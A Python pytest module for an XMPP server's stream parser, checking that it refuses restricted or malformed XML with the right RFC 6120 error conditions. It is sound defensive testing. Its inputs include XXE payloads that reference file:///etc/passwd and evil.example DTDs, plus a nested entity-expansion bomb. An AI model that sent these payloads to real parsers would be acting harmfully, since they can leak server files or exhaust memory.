"""The stream parser: what it refuses, and with which condition (rows A1 to A9 of the abuse cases)."""

from __future__ import annotations

import socket
import tracemalloc

import pytest

from jabberd.xmpp import ns
from tests.xmpp import odd
from tests.xmpp.reading import HEADER, PRESENCE, XML, fed, heard, names, opened, ways


@pytest.mark.rfc6120("11.1-1")
@ways
@pytest.mark.parametrize(
    "data",
    [
        b"<!DOCTYPE s [<!ENTITY a 'AAAA'>]>" + HEADER + b"<message><body>&a;</body></message>",
        XML + b"<!DOCTYPE s [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>" + HEADER + b"<message>&a;</message>",
        XML + b"<!DOCTYPE s SYSTEM 'http://evil.example/s.dtd'>" + HEADER,
        XML + b"<!DOCTYPE s [<!ENTITY % p SYSTEM 'http://evil.example/p'> %p;]>" + HEADER,
        XML + b"<!-- c -->" + HEADER,
        XML + b"<?php echo ?>" + HEADER,
    ],
    ids=["A1", "A3 file", "A3 http", "A3 parameter", "A4 comment", "A4 instruction"],
)
def test_nothing_of_a_document_type_comes_before_the_header(data: bytes, size: int | None) -> None:
    """A1, A3, A4."""
    assert heard(data, size) == ["restricted-xml"]


@pytest.mark.rfc6120("11.1-1")
@ways
@pytest.mark.parametrize(
    "data",
    [
        b"<!-- c -->",
        b"<?pi?>",
        b"&nbsp;",
        b"<!DOCTYPE s>",
        b"<!ENTITY a 'b'>",
        b"<!DOCTYPE s [<!ENTITY a 'b'>]>",
    ],
    ids=["A4 comment", "A4 instruction", "11.1 entity", "A3 type", "11.1 declaration", "A3 subset"],
)
@pytest.mark.parametrize("around", [b"%s", b"<message>%s</message>", b"<message><body>%s</body></message>"])
def test_restricted_xml_is_refused_wherever_it_stands(data: bytes, around: bytes, size: int | None) -> None:
    """A4; RFC 6120 §11.1."""
    expected = "bad-format" if (data, around) == (b"&nbsp;", b"%s") else "restricted-xml"
    assert heard(HEADER + PRESENCE + around % data, size)[1:] == [("presence", {}, (), b""), expected]


@ways
def test_nested_entities_are_never_expanded(size: int | None) -> None:
    """A2, CVE-2011-2205."""
    declared = b"".join(b"<!ENTITY a%d '%s'>" % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 10))
    data = b"<!DOCTYPE s [<!ENTITY a0 'AAAAAAAAAA'>" + declared + b"]>" + HEADER + b"<message>&a9;</message>"
    heard(data, size)  # imports and caches
    tracemalloc.start()
    try:
        assert heard(data, size) == ["restricted-xml"]
        assert tracemalloc.get_traced_memory()[1] < 1 << 20
    finally:
        tracemalloc.stop()


def test_an_external_entity_makes_nobody_call() -> None:
    """A3, CVE-2011-2206."""
    with socket.create_server(("127.0.0.1", 0)) as listening:
        uri = f"http://127.0.0.1:{listening.getsockname()[1]}/"
        data = f"<!DOCTYPE s SYSTEM '{uri}' [<!ENTITY a SYSTEM '{uri}'>]>".encode() + HEADER
        assert heard(data + b"<message>&a;</message>") == ["restricted-xml"]
        listening.setblocking(False)
        with pytest.raises(BlockingIOError):
            listening.accept()


ILL_FORMED = [
    b"<message></presence>",
    b"<message><a:b/></message>",
    b"<message a:b='1'/>",
    b"<message a='1' a='2'/>",
    b"<message xmlns:a='u' xmlns:b='u'><x a:k='1' b:k='2'/></message>",
    b"<message xmlns:a=''/>",
    b"<message xmlns:xml='urn:x'/>",
    b"<message xmlns:xmlns='urn:x'/>",
    b"<message xmlns:a='http://www.w3.org/XML/1998/namespace'/>",
    b"<message xmlns:a='http://www.w3.org/2000/xmlns/'/>",
    b"<message xmlns='urn:}x'/>",
    b"<message><a:b:c xmlns:a='u'/></message>",
    b"<message><xmlns:a/></message>",
    b"<message><a xmlns='http://www.w3.org/XML/1998/namespace'/></message>",
    b"<message><a xmlns='http://www.w3.org/2000/xmlns/'/></message>",
    b"<message a=1/>",
    b"<message a/>",
    b"<message a='1'b='2'/>",
    b"<message a='<'/>",
    b"<message a='&'/>",
    b"<message>&</message>",
    b"<message>]]></message>",
    b"<1/>",
    b"< message/>",
    b"<message/ >",
    b"<message><![CDATAX[]]></message>",
    b"<message><!doctype s></message>",
    b"<!></message>",
    b"<message><?xml version='1.0'?></message>",
    b"</message>",
]


@pytest.mark.rfc6120("11.3-1")
@ways
@pytest.mark.parametrize("data", ILL_FORMED)
def test_what_is_not_well_formed_ends_the_stream(data: bytes, size: int | None) -> None:
    """A5; RFC 6120 §11.3, for namespaces too."""
    parser = opened()
    assert fed(parser, PRESENCE + data + PRESENCE, size) == [("presence", {}, (), b""), "not-well-formed"]
    assert fed(parser, PRESENCE) == []


NOT_CHARACTERS = [
    b"\xc0\xaf",  # overlong
    b"\xe0\x80\xaf",
    b"\xf0\x80\x80\xaf",
    b"\xed\xa0\x80",  # surrogates
    b"\xed\xb0\x80",
    b"\xe2\x82",  # truncated
    b"\xf0\x9f\x8c",
    b"\x80",
    b"\xff",
    b"\xf4\x90\x80\x80",  # beyond U+10FFFF
    b"\xef\xbf\xbe",  # U+FFFE
    b"\xef\xbf\xbf",
    b"\x00",
    b"\x0b",
    b"&#0;",
    b"&#x1;",
    b"&#xD800;",
    b"&#xFFFE;",
    b"&#x110000;",
]


@pytest.mark.rfc6120("11.3-1")
@pytest.mark.parametrize("bad", NOT_CHARACTERS)
@pytest.mark.parametrize("around", [b"<message><body>a%sb</body></message>", b"<message id='a%sb'/>"])
def test_what_is_no_character_reaches_nobody(bad: bytes, around: bytes) -> None:
    """A6, also cut between two segments at every place."""
    data = around % bad
    for cut in range(len(data) + 1):
        parser = opened()
        assert fed(parser, data[:cut]) + fed(parser, data[cut:]) == ["not-well-formed"]


@pytest.mark.rfc6120("11.6-4")
@pytest.mark.parametrize(
    "good", ["\ufffd", "\ufeff", "\ue000", "\U0010ffff", "\U0001fffe", "\u0085", "\u2028"]
)
@ways
def test_rare_characters_are_characters(good: str, size: int | None) -> None:
    """RFC 6120 §11.6: U+FEFF too."""
    payload = f"<body>{good}</body>".encode()
    assert heard(HEADER + b"<message>" + payload + b"</message>", size)[1:] == [
        ("message", {}, ("{jabber:client}body",), payload)
    ]


@pytest.mark.rfc6120("11.6-2")
@ways
@pytest.mark.parametrize("encoding", ["ISO-8859-1", "UTF-16", "us-ascii", "UTF8", "x-made-up"])
def test_another_encoding_is_refused(encoding: str, size: int | None) -> None:
    """A7."""
    assert heard(f"<?xml version='1.0' encoding='{encoding}'?>".encode() + HEADER, size) == [
        "unsupported-encoding"
    ]


@pytest.mark.rfc6120("11.6-1", "11.6-2")
@ways
@pytest.mark.parametrize("codec", ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be"])
@pytest.mark.parametrize("declared", [True, False])
def test_wide_characters_are_refused(codec: str, declared: bool, size: int | None) -> None:
    """A7; RFC 6120 §11.6: UTF-8 and nothing else, whatever expat would guess."""
    data = (XML if declared else b"") + HEADER + b"<message><body>hi</body></message>"
    for mark in ("", "\ufeff"):
        assert heard((mark + data.decode()).encode(codec), size) == ["unsupported-encoding"]


@pytest.mark.rfc6120("11.6-4")
@ways
@pytest.mark.parametrize(
    "data",
    [
        b"GET / HTTP/1.1\r\n\r\n",
        b"\x16\x03\x01\x02\x00\x01",
        b"\xef\xbb\xbf" + HEADER,
        b"x" + HEADER,
        b"&lt;",
        b"\x0b<a/>",
    ],
    ids=["http", "tls", "byte order mark", "text", "reference", "control"],
)
def test_what_is_no_xml_at_all_is_not_well_formed(data: bytes, size: int | None) -> None:
    """RFC 6120 §11.6: a byte order mark is a character like any other, and out of place."""
    assert heard(data, size) == ["not-well-formed"]


@pytest.mark.rfc6120("4.8.1-1")
@ways
@pytest.mark.parametrize(
    ("root", "condition"),
    [
        (b"<message xmlns='jabber:client'>", "bad-format"),
        (b"<open xmlns='urn:ietf:params:xml:ns:xmpp-framing'/>", "bad-format"),
        (b"<stream:streams xmlns:stream='http://etherx.jabber.org/streams'>", "bad-format"),
        (b"<stream>", "invalid-namespace"),
        (
            b"<stream:stream xmlns='jabber:client' xmlns:stream='http://etherx.jabber.org/stream'>",
            "invalid-namespace",
        ),
        (b"<stream xmlns='jabber:client'>", "invalid-namespace"),
        (odd.header(ns.SERVER), "invalid-namespace"),
        (odd.header("jabber:component:accept"), "invalid-namespace"),
        (odd.header("urn:x"), "invalid-namespace"),
    ],
)
def test_a_stream_about_something_else_is_refused(root: bytes, condition: str, size: int | None) -> None:
    """A8, A9."""
    assert heard(XML + root + b"<message/>", size) == [condition]


@ways
@pytest.mark.parametrize(
    "namespace", ["jabber:server", "jabber:component:accept", "jabber:component:connect"]
)
@pytest.mark.parametrize("data", ["<message xmlns='{}'/>", "<s:foo xmlns:s='{}'/>"])
@pytest.mark.rfc6120("4.8.3-2")
def test_an_element_of_another_kind_of_stream_is_refused(data: str, namespace: str, size: int | None) -> None:
    said = heard(HEADER + PRESENCE + data.format(namespace).encode() + PRESENCE, size)
    assert said[1:] == [("presence", {}, (), b""), "invalid-namespace"]


@ways
def test_a_header_declares_only_so_many_prefixes(size: int | None) -> None:
    """Each stanza is looked through for all of them."""
    many = "".join(f" xmlns:p{n}='urn:x'" for n in range(40))
    assert heard(odd.header(ns.CLIENT, prefixes=many), size) == ["policy-violation"]
    few = many[: many.index(" xmlns:p10")]
    assert names(heard(odd.header(ns.CLIENT, prefixes=few), size)) == ["header"]


def test_a_client_that_calls_a_server_is_refused() -> None:
    """A9, the reverse."""
    assert heard(odd.header(ns.CLIENT), content_ns=ns.SERVER) == ["invalid-namespace"]


@ways
@pytest.mark.parametrize(
    "text", [b"x", b"\xc2\xa0", b"&#32;", b"&amp;", b"]]>", b"<![CDATA[x]]>", b"<![CDATA[]]>"]
)
def test_text_between_stanzas_is_refused(text: bytes, size: int | None) -> None:
    assert heard(HEADER + PRESENCE + text + PRESENCE, size)[1:] == [("presence", {}, (), b""), "bad-format"]
